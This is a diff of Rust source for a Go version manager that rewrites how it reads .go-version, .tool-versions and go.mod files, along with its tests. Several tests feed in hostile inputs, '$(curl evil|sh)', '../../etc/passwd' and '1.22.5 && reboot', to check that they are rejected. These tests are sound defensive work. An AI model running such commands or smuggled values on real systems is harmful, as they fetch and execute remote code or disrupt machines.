@@ -5,13 +5,25 @@
 //! 1. `GVMR_GO_VERSION`;
 //! 2. the nearest `.go-version`, or `.tool-versions` with a `golang`/`go`
 //!    entry, walking up from the directory (nearest wins; in one directory
-//!    `.go-version` wins);
+//!    `.go-version` wins; an empty or comment-only `.go-version` is skipped
+//!    as if absent);
 //! 3. else the nearest `go.work` (unless `GOWORK=off`), else `go.mod`: a
-//!    `toolchain goX.Y.Z` line is exact, a `go X.Y[.Z]` line a minimum;
+//!    `toolchain goX.Y.Z` line (unless older than the `go` line) is exact,
+//!    a `go X.Y[.Z]` line a minimum, as in Go;
 //! 4. else the global default (`$GVMR_HOME/default`);
 //! 5. else nothing.
+//!
+//! A pin (steps 1, 2 and 4) carries the nearest go.work/go.mod between the
+//! directory and the pin ([`Selection::module`]); resolving it
+//! ([`crate::toolchain::resolve`]) lets that module decide when the pin is
+//! older than its `go` line, which Go would refuse under GOTOOLCHAIN=local.
+//!
+//! [`lookup`] also reports every file it read ([`Lookup::consulted`], for
+//! the shell hooks to watch) and what it noticed on the way
+//! ([`Lookup::notes`]: skipped files, ignored lines).
 
-use crate::version::{GoVersion, VersionRequest};
+use crate::version::{GoVersion, Minimum, VersionRequest};
+use std::ffi::OsString;
 use std::fmt;
 use std::fs::File;
 use std::io::Read;
@@ -25,6 +37,8 @@ pub const DEFAULT_FILE: &str = "default";
 const MAX_FILE_BYTES: u64 = 64 * 1024;
 /// go.mod files can be long (many requires); the directives are near the top.
 const MAX_GO_MOD_BYTES: u64 = 4 * 1024 * 1024;
+/// The UTF-8 byte-order mark some Windows editors put first.
+const BOM: char = '\u{feff}';
 
 /// What decided the version.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -44,19 +58,50 @@ impl fmt::Display for Source {
 }
 
 /// What a source asks for.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+#[derive(Debug, Clone, PartialEq, Eq)]
 pub enum Requirement {
-    /// A request as written in `.go-version` & co (exact, a line, latest).
+    /// A request as written in `.go-version` & co (exact, a line, an
+    /// alias, `system`).
     Request(VersionRequest),
-    /// go.mod's `go` line: this version or a newer one of the same line.
-    AtLeast(GoVersion),
+    /// `.tool-versions` naming several versions, as asdf reads them: the
+    /// first installed one, else the first.
+    FirstInstalled(Vec<VersionRequest>),
+    /// go.mod's `go` line: this version or any newer one, as in Go.
+    AtLeast(Minimum),
 }
 
 impl fmt::Display for Requirement {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         match self {
             Requirement::Request(r) => r.fmt(f),
-            Requirement::AtLeast(v) => write!(f, ">= {v}"),
+            Requirement::FirstInstalled(list) => {
+                let names: Vec<String> = list.iter().map(|r| r.to_string()).collect();
+                f.write_str(&names.join(" "))
+            }
+            Requirement::AtLeast(min) => write!(f, ">= {min}"),
+        }
+    }
+}
+
+/// The nearest go.work or go.mod and what its directives ask for.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Module {
+    pub path: PathBuf,
+    /// The `go` line.
+    pub go: Option<Minimum>,
+    /// The `toolchain` line, unless it is older than the `go` line (Go
+    /// ignores it then) or says `default`.
+    pub toolchain: Option<GoVersion>,
+}
+
+impl Module {
+    /// What the module selects on its own: the toolchain line exactly, else
+    /// the go line as a minimum; `None` when it has neither.
+    pub fn requirement(&self) -> Option<Requirement> {
+        match (self.toolchain, self.go) {
+            (Some(toolchain), _) => Some(Requirement::Request(VersionRequest::Exact(toolchain))),
+            (None, Some(min)) => Some(Requirement::AtLeast(min)),
+            (None, None) => None,
         }
     }
 }
@@ -66,6 +111,28 @@ impl fmt::Display for Requirement {
 pub struct Selection {
     pub requirement: Requirement,
     pub source: Source,
+    /// For a pin: the nearest go.work/go.mod with a `go` line between the
+    /// directory and the pin (for `GVMR_GO_VERSION`: above the directory),
+    /// whose minimum the pin must meet.
+    pub module: Option<Module>,
+    /// The global default, read when a `go` line is involved: a minimum
+    /// prefers it when it is installed and new enough.
+    pub default: Option<VersionRequest>,
+}
+
+/// What [`lookup`] found: the selection (or why there is none), every file
+/// it read, and what it noticed.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Lookup {
+    pub result: Result<Option<Selection>, SelectError>,
+    /// Every file read, in order, including files skipped because they were
+    /// empty or held no Go entry: a change to any of them can change the
+    /// selection. (Files that do not exist are not listed; see
+    /// [`candidate_files`].)
+    pub consulted: Vec<PathBuf>,
+    /// Remarks for `gvmr current`, `env`, the hooks and `doctor` (never
+    /// printed by the shim): skipped files, ignored lines.
+    pub notes: Vec<String>,
 }
 
 /// A version file that cannot be understood.
@@ -98,9 +165,14 @@ fn describe_value(value: &str) -> String {
     }
 }
 
-/// Parses a version as written in a file, with `problem` naming the format.
+/// Parses a version as written in a version file: a leading `v`
+/// (`v1.22.5`, as some tools write it) is accepted.
 fn request_in(value: &str, origin: &Path, line: usize) -> Result<VersionRequest, SelectError> {
-    VersionRequest::parse(value).map_err(|_| SelectError {
+    let unprefixed = match value.strip_prefix('v') {
+        Some(rest) if rest.starts_with(|c: char| c.is_ascii_digit()) => rest,
+        _ => value,
+    };
+    VersionRequest::parse(unprefixed).map_err(|_| SelectError {
         origin: origin.display().to_string(),
         line: Some(line),
         problem: format!(
@@ -110,7 +182,8 @@ fn request_in(value: &str, origin: &Path, line: usize) -> Result<VersionRequest,
     })
 }
 
-/// Reads a text file of at most `limit` bytes. `Ok(None)` when it does not exist.
+/// Reads a text file of at most `limit` bytes, without a leading
+/// byte-order mark. `Ok(None)` when it does not exist.
 fn read_text(path: &Path, limit: u64) -> Result<Option<String>, SelectError> {
     let err = |problem: String| SelectError {
         origin: path.display().to_string(),
@@ -132,48 +205,72 @@ fn read_text(path: &Path, limit: u64) -> Result<Option<String>, SelectError> {
             "it is larger than {limit} bytes; a version file holds one version"
         )));
     }
-    String::from_utf8(bytes)
-        .map(Some)
-        .map_err(|_| err("it is not UTF-8 text; a version file holds one version".into()))
+    let text = String::from_utf8(bytes)
+        .map_err(|_| err("it is not UTF-8 text; a version file holds one version".into()))?;
+    Ok(Some(match text.strip_prefix(BOM) {
+        Some(rest) => rest.to_string(),
+        None => text,
+    }))
 }
 
-/// `.go-version` (and the default file): one version, `#` comment lines and
-/// blank lines tolerated.
-pub fn parse_go_version_file(text: &str, origin: &Path) -> Result<VersionRequest, SelectError> {
-    let mut found: Option<(usize, &str)> = None;
-    for (i, line) in text.lines().enumerate() {
-        let line = line.trim();
-        if line.is_empty() || line.starts_with('#') {
-            continue;
-        }
-        if found.is_some() {
-            return Err(SelectError {
-                origin: origin.display().to_string(),
-                line: Some(i + 1),
-                problem: format!(
-                    "a second version {}; the file holds one version",
-                    describe_value(line)
-                ),
-            });
-        }
-        found = Some((i + 1, line));
-    }
-    match found {
-        Some((line, value)) => request_in(value, origin, line),
-        None => Err(SelectError {
-            origin: origin.display().to_string(),
-            line: None,
-            problem: "it holds no version (expected one, e.g. 1.22.5)".into(),
-        }),
+/// What a `.go-version` (or the default file) holds.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct VersionFile {
+    /// The first version in the file.
+    pub request: VersionRequest,
+    /// Versions on later lines (1-based line, text): ignored, as goenv and
+    /// mise use the first.
+    pub ignored: Vec<(usize, String)>,
+}
+
+impl VersionFile {
+    /// One note per ignored line.
+    pub fn notes(&self, origin: &Path) -> Vec<String> {
+        self.ignored
+            .iter()
+            .map(|(line, value)| {
+                format!(
+                    "{}:{line}: {} ignored: only the first version ({}) counts",
+                    origin.display(),
+                    describe_value(value),
+                    self.request
+                )
+            })
+            .collect()
     }
 }
 
-/// `.tool-versions` (asdf): `golang 1.22.5` or `go 1.22.5`. `Ok(None)` when
-/// the file has no Go entry.
-pub fn parse_tool_versions(
+/// `.go-version` (and the default file), as goenv and mise write it: the
+/// first version, with `#` comments (whole lines or after the version) and
+/// blank lines ignored. `Ok(None)` for a file with no version (to be
+/// skipped as if absent). Later versions are reported, not refused.
+pub fn parse_go_version_file(
     text: &str,
     origin: &Path,
-) -> Result<Option<VersionRequest>, SelectError> {
+) -> Result<Option<VersionFile>, SelectError> {
+    let mut found: Option<VersionFile> = None;
+    for (i, line) in text.lines().enumerate() {
+        let value = line.split('#').next().unwrap_or("").trim();
+        if value.is_empty() {
+            continue;
+        }
+        match &mut found {
+            None => {
+                found = Some(VersionFile {
+                    request: request_in(value, origin, i + 1)?,
+                    ignored: Vec::new(),
+                });
+            }
+            Some(file) => file.ignored.push((i + 1, value.to_string())),
+        }
+    }
+    Ok(found)
+}
+
+/// `.tool-versions` (asdf): `golang 1.22.5` or `go 1.22.5`; several
+/// versions on the line are a fallback list. `Ok(None)` when the file has
+/// no Go entry.
+pub fn parse_tool_versions(text: &str, origin: &Path) -> Result<Option<Requirement>, SelectError> {
     for (i, line) in text.lines().enumerate() {
         let content = line.split('#').next().unwrap_or("");
         let mut words = content.split_whitespace();
@@ -181,22 +278,31 @@ pub fn parse_tool_versions(
             Some("golang" | "go") => {}
             _ => continue,
         }
-        let Some(value) = words.next() else {
-            return Err(SelectError {
+        let requests: Vec<VersionRequest> = words
+            .map(|value| request_in(value, origin, i + 1))
+            .collect::<Result<_, _>>()?;
+        return match requests.as_slice() {
+            [] => Err(SelectError {
                 origin: origin.display().to_string(),
                 line: Some(i + 1),
                 problem: "the go entry names no version (expected e.g. `golang 1.22.5`)".into(),
-            });
+            }),
+            [one] => Ok(Some(Requirement::Request(*one))),
+            _ => Ok(Some(Requirement::FirstInstalled(requests))),
         };
-        return request_in(value, origin, i + 1).map(Some);
     }
     Ok(None)
 }
 
-/// `go.mod`/`go.work`: the `toolchain` line (exact) or else the `go` line
-/// (a minimum). `Ok(None)` when neither is present.
-pub fn parse_go_mod(text: &str, origin: &Path) -> Result<Option<Requirement>, SelectError> {
-    let mut go_line = None;
+/// `go.mod`/`go.work`: the `go` and `toolchain` lines, as Go reads them (a
+/// toolchain line older than the go line is ignored). The module's path is
+/// `origin`.
+pub fn parse_go_mod(text: &str, origin: &Path) -> Result<Module, SelectError> {
+    let mut module = Module {
+        path: origin.to_path_buf(),
+        go: None,
+        toolchain: None,
+    };
     for (i, line) in text.lines().enumerate() {
         let content = line.split("//").next().unwrap_or("").trim();
         let mut words = content.split_whitespace();
@@ -211,7 +317,7 @@ pub fn parse_go_mod(text: &str, origin: &Path) -> Result<Option<Requirement>, Se
         };
         match directive {
             "toolchain" if value == "default" => {}
-            "toolchain" => {
+            "toolchain" if module.toolchain.is_none() => {
                 let name = value
                     .strip_prefix("go")
                     .ok_or_else(|| bad("a toolchain name (expected e.g. go1.22.5)"))?;
@@ -219,17 +325,22 @@ pub fn parse_go_mod(text: &str, origin: &Path) -> Result<Option<Requirement>, Se
                 let release = name.split(['+', '-']).next().unwrap_or(name);
                 let version = GoVersion::parse(release)
                     .map_err(|_| bad("a toolchain name (expected e.g. go1.22.5)"))?;
-                return Ok(Some(Requirement::Request(VersionRequest::Exact(version))));
+                module.toolchain = Some(version);
             }
-            "go" if go_line.is_none() => {
-                let version = GoVersion::parse(value)
+            "go" if module.go.is_none() => {
+                let min = Minimum::parse(value)
                     .map_err(|_| bad("a Go version (expected e.g. 1.22 or 1.22.5)"))?;
-                go_line = Some(Requirement::AtLeast(version));
+                module.go = Some(min);
             }
             _ => {}
         }
     }
-    Ok(go_line)
+    if let (Some(toolchain), Some(go)) = (module.toolchain, module.go)
+        && !go.admits(&toolchain)
+    {
+        module.toolchain = None;
+    }
+    Ok(module)
 }
 
 /// The environment the resolver reads; passed in so tests control it.
@@ -241,6 +352,8 @@ pub struct Inputs {
     pub gowork: Option<String>,
     /// The data directory, for the default file.
     pub home: Option<PathBuf>,
+    /// `PATH`, where `system` finds the Go outside gvmr.
+    pub path: Option<OsString>,
 }
 
 impl Inputs {
@@ -254,6 +367,7 @@ impl Inputs {
             env_version: var("GVMR_GO_VERSION"),
             gowork: var("GOWORK"),
             home,
+            path: std::env::var_os("PATH"),
         }
     }
 }
@@ -275,111 +389,232 @@ pub fn candidate_files(dir: &Path, home: Option<&Path>) -> Vec<PathBuf> {
 
 /// Selects the version for `dir`. `Ok(None)` when nothing selects one.
 pub fn select(dir: &Path, inputs: &Inputs) -> Result<Option<Selection>, SelectError> {
-    if let Some(value) = &inputs.env_version {
-        let request = VersionRequest::parse(value).map_err(|_| SelectError {
-            origin: "GVMR_GO_VERSION".into(),
-            line: None,
-            problem: format!(
-                "{} is not a Go version (expected e.g. 1.22.5, go1.22.5, 1.22 or latest)",
-                describe_value(value)
-            ),
-        })?;
-        return Ok(Some(Selection {
-            requirement: Requirement::Request(request),
-            source: Source::Env,
-        }));
+    lookup(dir, inputs).result
+}
+
+/// Selects the version for `dir`, recording the files read and the notes.
+pub fn lookup(dir: &Path, inputs: &Inputs) -> Lookup {
+    let mut walk = Walk {
+        inputs,
+        consulted: Vec::new(),
+        notes: Vec::new(),
+    };
+    let result = walk.select(dir);
+    Lookup {
+        result,
+        consulted: walk.consulted,
+        notes: walk.notes,
+    }
+}
+
+/// One lookup's state: what it has read and noticed so far.
+struct Walk<'a> {
+    inputs: &'a Inputs,
+    consulted: Vec<PathBuf>,
+    notes: Vec<String>,
+}
+
+/// A pin found by the walk, before its module and default are attached.
+struct Pin {
+    requirement: Requirement,
+    source: Source,
+}
+
+impl Walk<'_> {
+    fn read(&mut self, path: &Path, limit: u64) -> Result<Option<String>, SelectError> {
+        let text = read_text(path, limit)?;
+        if text.is_some() {
+            self.consulted.push(path.to_path_buf());
+        }
+        Ok(text)
     }
 
-    let gowork_off = inputs.gowork.as_deref() == Some("off");
-    let mut nearest_work: Option<PathBuf> = match inputs.gowork.as_deref() {
-        Some(path) if path != "off" && Path::new(path).is_absolute() => Some(PathBuf::from(path)),
-        _ => None,
-    };
-    let mut nearest_mod: Option<PathBuf> = None;
-    for ancestor in dir.ancestors() {
-        let go_version = ancestor.join(GO_VERSION_FILE);
-        if let Some(text) = read_text(&go_version, MAX_FILE_BYTES)? {
-            let request = parse_go_version_file(&text, &go_version)?;
-            return Ok(Some(Selection {
+    /// A `.go-version`-style file: `Ok(None)` when absent or empty (noted).
+    fn read_version_file(&mut self, path: &Path) -> Result<Option<VersionRequest>, SelectError> {
+        let Some(text) = self.read(path, MAX_FILE_BYTES)? else {
+            return Ok(None);
+        };
+        match parse_go_version_file(&text, path)? {
+            Some(file) => {
+                self.notes.extend(file.notes(path));
+                Ok(Some(file.request))
+            }
+            None => {
+                self.notes.push(format!(
+                    "{} holds no version (only blanks or comments); skipped as if absent",
+                    path.display()
+                ));
+                Ok(None)
+            }
+        }
+    }
+
+    /// The module of the first of `paths` that has a `go` or `toolchain` line.
+    fn module(&mut self, paths: [Option<PathBuf>; 2]) -> Result<Option<Module>, SelectError> {
+        for path in paths.into_iter().flatten() {
+            if let Some(text) = self.read(&path, MAX_GO_MOD_BYTES)? {
+                let module = parse_go_mod(&text, &path)?;
+                if module.requirement().is_some() {
+                    return Ok(Some(module));
+                }
+            }
+        }
+        Ok(None)
+    }
+
+    fn default(&mut self) -> Result<Option<VersionRequest>, SelectError> {
+        match &self.inputs.home {
+            Some(home) => self.read_version_file(&home.join(DEFAULT_FILE)),
+            None => Ok(None),
+        }
+    }
+
+    fn select(&mut self, dir: &Path) -> Result<Option<Selection>, SelectError> {
+        let inputs = self.inputs;
+        let env_pin = match &inputs.env_version {
+            Some(value) => Some(VersionRequest::parse(value).map_err(|_| SelectError {
+                origin: "GVMR_GO_VERSION".into(),
+                line: None,
+                problem: format!(
+                    "{} is not a Go version (expected e.g. 1.22.5, go1.22.5, 1.22 or latest)",
+                    describe_value(value)
+                ),
+            })?),
+            None => None,
+        };
+
+        let gowork_off = inputs.gowork.as_deref() == Some("off");
+        let mut nearest_work: Option<PathBuf> = match inputs.gowork.as_deref() {
+            Some(path) if path != "off" && Path::new(path).is_absolute() => {
+                Some(PathBuf::from(path))
+            }
+            _ => None,
+        };
+        let mut nearest_mod: Option<PathBuf> = None;
+        let mut pin = env_pin.map(|request| Pin {
+            requirement: Requirement::Request(request),
+            source: Source::Env,
+        });
+        for ancestor in dir.ancestors() {
+            if pin.is_none() {
+                pin = self.pin_in(ancestor)?;
+            }
+            if nearest_work.is_none() && !gowork_off {
+                let work = ancestor.join("go.work");
+                if work.is_file() {
+                    nearest_work = Some(work);
+                }
+            }
+            if nearest_mod.is_none() {
+                let module = ancestor.join("go.mod");
+                if module.is_file() {
+                    nearest_mod = Some(module);
+                }
+            }
+            // A file pin only answers to modules below it (and beside it);
+            // without one, or with GVMR_GO_VERSION, the walk goes all the way up.
+            if matches!(&pin, Some(p) if p.source != Source::Env) {
+                break;
+            }
+        }
+        let module = match self.module([nearest_work, nearest_mod]) {
+            Ok(module) => module,
+            // A pin does not depend on the module: a malformed one is only noted.
+            Err(e) if pin.is_some() => {
+                self.notes.push(format!(
+                    "{e} (the pin is used without checking it against that file)"
+                ));
+                None
+            }
+            Err(e) => return Err(e),
+        };
+
+        let Some(pin) = pin else {
+            // No pin: the module decides, else the default.
+            if let Some(module) = module
+                && let Some(requirement) = module.requirement()
+            {
+                let default = match requirement {
+                    Requirement::AtLeast(_) => self.default()?,
+                    _ => None,
+                };
+                return Ok(Some(Selection {
+                    requirement,
+                    source: Source::File(module.path),
+                    module: None,
+                    default,
+                }));
+            }
+            let Some(home) = &inputs.home else {
+                return Ok(None);
+            };
+            let path = home.join(DEFAULT_FILE);
+            return Ok(self.default()?.map(|request| Selection {
+                requirement: Requirement::Request(request),
+                source: Source::Default(path),
+                module: None,
+                default: None,
+            }));
+        };
+        let module = module.filter(|m| m.go.is_some());
+        let default = if module.as_ref().is_some_and(|m| m.toolchain.is_none()) {
+            self.default()?
+        } else {
+            None
+        };
+        Ok(Some(Selection {
+            requirement: pin.requirement,
+            source: pin.source,
+            module,
+            default,
+        }))
+    }
+
+    /// A `.go-version` or `.tool-versions` pin in `dir` itself.
+    fn pin_in(&mut self, dir: &Path) -> Result<Option<Pin>, SelectError> {
+        let go_version = dir.join(GO_VERSION_FILE);
+        if let Some(request) = self.read_version_file(&go_version)? {
+            return Ok(Some(Pin {
                 requirement: Requirement::Request(request),
                 source: Source::File(go_version),
             }));
         }
-        let tool_versions = ancestor.join(TOOL_VERSIONS_FILE);
-        if let Some(text) = read_text(&tool_versions, MAX_FILE_BYTES)?
-            && let Some(request) = parse_tool_versions(&text, &tool_versions)?
+        let tool_versions = dir.join(TOOL_VERSIONS_FILE);
+        if let Some(text) = self.read(&tool_versions, MAX_FILE_BYTES)?
+            && let Some(requirement) = parse_tool_versions(&text, &tool_versions)?
         {
-            return Ok(Some(Selection {
-                requirement: Requirement::Request(request),
+            return Ok(Some(Pin {
+                requirement,
                 source: Source::File(tool_versions),
             }));
         }
-        if nearest_work.is_none() && !gowork_off {
-            let work = ancestor.join("go.work");
-            if work.is_file() {
-                nearest_work = Some(work);
-            }
-        }
-        if nearest_mod.is_none() {
-            let module = ancestor.join("go.mod");
-            if module.is_file() {
-                nearest_mod = Some(module);
-            }
-        }
+        Ok(None)
     }
-
-    for path in [nearest_work, nearest_mod].into_iter().flatten() {
-        if let Some(text) = read_text(&path, MAX_GO_MOD_BYTES)?
-            && let Some(requirement) = parse_go_mod(&text, &path)?
-        {
-            return Ok(Some(Selection {
-                requirement,
-                source: Source::File(path),
-            }));
-        }
-    }
-
-    if let Some(home) = &inputs.home {
-        let default = home.join(DEFAULT_FILE);
-        if let Some(text) = read_text(&default, MAX_FILE_BYTES)? {
-            let request = parse_go_version_file(&text, &default)?;
-            return Ok(Some(Selection {
-                requirement: Requirement::Request(request),
-                source: Source::Default(default),
-            }));
-        }
-    }
-    Ok(None)
 }
 
 impl Requirement {
-    /// The installed version this requirement picks: the newest installed
-    /// match (for a minimum, the newest of its line at or above it).
-    pub fn pick_installed(&self, installed: &[GoVersion]) -> Option<GoVersion> {
-        match self {
-            Requirement::Request(request) => request.best_match(installed),
-            Requirement::AtLeast(min) => installed
-                .iter()
-                .filter(|v| v.in_line(min.major, min.minor) && *v >= min)
-                .max()
-                .copied(),
-        }
-    }
-
     /// The version to install when nothing installed satisfies it, when that
     /// is one exact version.
     pub fn exact(&self) -> Option<GoVersion> {
         match self {
-            Requirement::Request(VersionRequest::Exact(v)) | Requirement::AtLeast(v) => Some(*v),
+            Requirement::Request(VersionRequest::Exact(v)) => Some(*v),
+            Requirement::AtLeast(min) => Some(min.release()),
+            Requirement::FirstInstalled(list) => match list.first() {
+                Some(VersionRequest::Exact(v)) => Some(*v),
+                _ => None,
+            },
             _ => None,
         }
     }
 
     /// What to pass to `gvmr install` to satisfy this requirement.
     pub fn install_argument(&self) -> String {
-        match self.exact() {
-            Some(v) => v.number(),
-            None => self.to_string(),
+        match (self.exact(), self) {
+            (Some(v), _) => v.number(),
+            (None, Requirement::FirstInstalled(list)) => {
+                list.first().map(|r| r.to_string()).unwrap_or_default()
+            }
+            (None, _) => self.to_string(),
         }
     }
 }
@@ -421,6 +656,10 @@ mod tests {
 
     fn exact(s: &str) -> Requirement {
         Requirement::Request(VersionRequest::Exact(v(s)))
+    }
+
+    fn at_least(s: &str) -> Requirement {
+        Requirement::AtLeast(Minimum::parse(s).unwrap())
     }
 
     struct Tree(tempfile_free::TempTree);
@@ -558,34 +797,31 @@ mod tests {
         let mut inputs = inputs(&tree);
         assert_eq!(
             selected(&tree.dir("ws/m/pkg"), &inputs),
-            (Requirement::AtLeast(v("1.22.1")), Source::File(work))
+            (at_least("1.22.1"), Source::File(work))
         );
         inputs.gowork = Some("off".into());
         assert_eq!(
             selected(&tree.dir("ws/m/pkg"), &inputs),
-            (Requirement::AtLeast(v("1.21.3")), Source::File(module))
+            (at_least("1.21.3"), Source::File(module))
         );
     }
 
     #[test]
     fn go_mod_toolchain_is_exact_and_go_line_is_a_minimum() {
         let o = Path::new("go.mod");
-        let parse = |t: &str| parse_go_mod(t, o).unwrap();
+        let parse = |t: &str| parse_go_mod(t, o).unwrap().requirement();
         assert_eq!(
             parse("module x\ngo 1.21\ntoolchain go1.22.5\n"),
             Some(exact("1.22.5"))
         );
         assert_eq!(
             parse("module x\r\ngo 1.21 // comment\r\n"),
-            Some(Requirement::AtLeast(v("1.21.0")))
+            Some(at_least("1.21"))
         );
-        assert_eq!(
-            parse("module x\ngo 1.20\n"),
-            Some(Requirement::AtLeast(v("go1.20")))
-        );
+        assert_eq!(parse("module x\ngo 1.20\n"), Some(at_least("1.20")));
         assert_eq!(
             parse("go 1.22\ntoolchain default\n"),
-            Some(Requirement::AtLeast(v("1.22.0")))
+            Some(at_least("1.22"))
         );
         assert_eq!(parse("toolchain go1.23.1+auto\n"), Some(exact("1.23.1")));
         assert_eq!(
@@ -607,24 +843,33 @@ mod tests {
     }
 
     #[test]
-    fn minimum_picks_newest_installed_of_its_line_else_itself() {
-        let installed = [v("1.21.0"), v("1.21.5"), v("1.22.3"), v("1.20.14")];
-        let at_least = |s: &str| Requirement::AtLeast(v(s));
-        assert_eq!(
-            at_least("1.21.0").pick_installed(&installed),
-            Some(v("1.21.5"))
-        );
-        assert_eq!(at_least("1.21.6").pick_installed(&installed), None);
-        assert_eq!(at_least("1.21.6").exact(), Some(v("1.21.6")));
-        assert_eq!(at_least("1.23.0").pick_installed(&installed), None);
+    fn a_toolchain_line_older_than_the_go_line_is_ignored() {
+        let o = Path::new("go.mod");
+        let module = parse_go_mod("module x\ngo 1.22\ntoolchain go1.21.5\n", o).unwrap();
+        assert_eq!(module.toolchain, None);
+        assert_eq!(module.requirement(), Some(at_least("1.22")));
+        // `go 1.22` admits go1.22rc1 as a toolchain line, as Go orders them.
+        let module = parse_go_mod("go 1.22\ntoolchain go1.22rc1\n", o).unwrap();
+        assert_eq!(module.requirement(), Some(exact("1.22rc1")));
+    }
+
+    #[test]
+    fn install_arguments_name_one_version_when_they_can() {
         let line = Requirement::Request(VersionRequest::Line {
             major: 1,
             minor: 22,
         });
-        assert_eq!(line.pick_installed(&installed), Some(v("1.22.3")));
         assert_eq!(line.exact(), None);
         assert_eq!(line.install_argument(), "1.22");
         assert_eq!(at_least("1.20").install_argument(), "1.20");
+        assert_eq!(at_least("1.22").install_argument(), "1.22.0");
+        assert_eq!(at_least("1.21.6").exact(), Some(v("1.21.6")));
+        let list = Requirement::FirstInstalled(vec![
+            VersionRequest::parse("1.22").unwrap(),
+            VersionRequest::parse("1.21.0").unwrap(),
+        ]);
+        assert_eq!(list.install_argument(), "1.22");
+        assert_eq!(list.to_string(), "1.22 go1.21.0");
     }
 
     #[test]
@@ -644,20 +889,92 @@ mod tests {
         let o = Path::new("/p/.go-version");
         let err = |t: &str| parse_go_version_file(t, o).unwrap_err().to_string();
         assert_eq!(
-            err("1.22.5\n1.21.0\n"),
-            "/p/.go-version:2: a second version \"1.21.0\"; the file holds one version"
-        );
-        assert_eq!(
-            err("\n# only a comment\n"),
-            "/p/.go-version: it holds no version (expected one, e.g. 1.22.5)"
-        );
-        assert_eq!(
             err("../../etc/passwd"),
             "/p/.go-version:1: \"../../etc/passwd\" is not a Go version (expected e.g. 1.22.5, go1.22.5, 1.22 or latest)"
         );
         assert!(err("$(curl evil|sh)").contains("is not a Go version"));
         let tv = parse_tool_versions("golang\n", Path::new("/p/.tool-versions")).unwrap_err();
         assert_eq!(tv.line, Some(1));
+    }
+
+    #[test]
+    fn go_version_files_as_goenv_and_mise_write_them() {
+        let o = Path::new("/p/.go-version");
+        let parse = |t: &str| parse_go_version_file(t, o).unwrap();
+        assert_eq!(parse("\n# only a comment\n  \n"), None);
+        assert_eq!(parse(""), None);
+        let file = parse("1.22.5 # the team's\n1.21.0\n\nlatest\n").unwrap();
+        assert_eq!(file.request, VersionRequest::parse("1.22.5").unwrap());
+        assert_eq!(
+            file.notes(o),
+            [
+                "/p/.go-version:2: \"1.21.0\" ignored: only the first version (go1.22.5) counts",
+                "/p/.go-version:4: \"latest\" ignored: only the first version (go1.22.5) counts",
+            ]
+        );
+        assert_eq!(
+            parse("v1.22.5\n").unwrap().request,
+            VersionRequest::parse("1.22.5").unwrap()
+        );
+        assert_eq!(parse("system\n").unwrap().request, VersionRequest::System);
+        // One version per line still: inner words are refused, never run.
+        assert!(parse_go_version_file("1.22.5 && reboot\n", o).is_err());
+        assert!(parse_go_version_file("vv1.22\n", o).is_err());
+    }
+
+    #[test]
+    fn lookup_lists_every_file_it_read_and_notes_skipped_ones() {
+        let tree = Tree::new();
+        let pin = tree.write("a/.go-version", "\u{feff}1.22.5\n");
+        let blank = tree.write("a/b/.go-version", "# nothing yet\n");
+        let tools = tree.write("a/b/.tool-versions", "nodejs 20\n");
+        let module = tree.write("a/b/c/go.mod", "module m\n\ngo 1.21\n");
+        let default = tree.write("home/default", "1.23.0\n");
+        let found = lookup(&tree.dir("a/b/c/d"), &inputs(&tree));
+        let selection = found.result.unwrap().unwrap();
+        assert_eq!(selection.source, Source::File(pin.clone()));
+        assert_eq!(selection.requirement, exact("1.22.5"));
+        assert_eq!(
+            selection.module.as_ref().map(|m| m.path.clone()),
+            Some(module.clone())
+        );
+        assert_eq!(selection.default, VersionRequest::parse("1.23.0").ok());
+        assert_eq!(
+            found.consulted,
+            [blank.clone(), tools, pin, module, default]
+        );
+        assert_eq!(
+            found.notes,
+            [format!(
+                "{} holds no version (only blanks or comments); skipped as if absent",
+                blank.display()
+            )]
+        );
+        // Nothing selected: the files read are still reported.
+        let lone = tree.write("z/.go-version", "\n");
+        let found = lookup(&tree.dir("z"), &Inputs::default());
+        assert_eq!(found.result, Ok(None));
+        assert_eq!(found.consulted, [lone]);
+    }
+
+    #[test]
+    fn tool_versions_lists_are_fallbacks_and_boms_are_dropped() {
+        let o = Path::new("/p/.tool-versions");
+        let parse = |t: &str| parse_tool_versions(t, o).unwrap();
+        assert_eq!(
+            parse("golang 1.22.5 1.21.0 system\n"),
+            Some(Requirement::FirstInstalled(vec![
+                VersionRequest::parse("1.22.5").unwrap(),
+                VersionRequest::parse("1.21.0").unwrap(),
+                VersionRequest::System,
+            ]))
+        );
+        let tree = Tree::new();
+        let tv = tree.write("p/.tool-versions", "\u{feff}golang 1.22.5\n");
+        assert_eq!(
+            selected(&tree.dir("p"), &inputs(&tree)),
+            (exact("1.22.5"), Source::File(tv))
+        );
     }
 
     #[test]
@@ -767,7 +1084,8 @@ mod fuzz {
     fn requirement_round_trips(requirement: &Requirement) -> bool {
         match requirement {
             Requirement::Request(r) => round_trips(r),
-            Requirement::AtLeast(v) => GoVersion::parse(&v.to_string()).as_ref() == Ok(v),
+            Requirement::FirstInstalled(list) => list.iter().all(round_trips),
+            Requirement::AtLeast(min) => Minimum::parse(&min.to_string()).as_ref() == Ok(min),
         }
     }
 
@@ -823,27 +1141,38 @@ mod fuzz {
     /// `go0` in `.go-version` selected a version printed as the `0.0` line.
     #[test]
     fn go0_selects_a_version_that_round_trips() {
-        let request = parse_go_version_file("\ngo0\n", Path::new(".go-version")).unwrap();
-        assert!(round_trips(&request), "{request:?}");
+        let file = parse_go_version_file("\ngo0\n", Path::new(".go-version"))
+            .unwrap()
+            .unwrap();
+        assert!(round_trips(&file.request), "{file:?}");
     }
 
     proptest! {
         #[test]
         fn file_parsers_never_panic_and_name_file_and_line(text in text(), origin in origin()) {
             match parse_go_version_file(&text, &origin) {
-                Ok(request) => prop_assert!(round_trips(&request), "{request:?}"),
-                Err(e) => check_error(&e, &text, &origin)?,
-            }
-            match parse_tool_versions(&text, &origin) {
-                Ok(Some(request)) => prop_assert!(round_trips(&request), "{request:?}"),
+                Ok(Some(file)) => {
+                    prop_assert!(round_trips(&file.request), "{file:?}");
+                    for (line, _) in &file.ignored {
+                        prop_assert!(*line >= 1 && *line <= text.lines().count());
+                    }
+                }
                 Ok(None) => {}
                 Err(e) => check_error(&e, &text, &origin)?,
             }
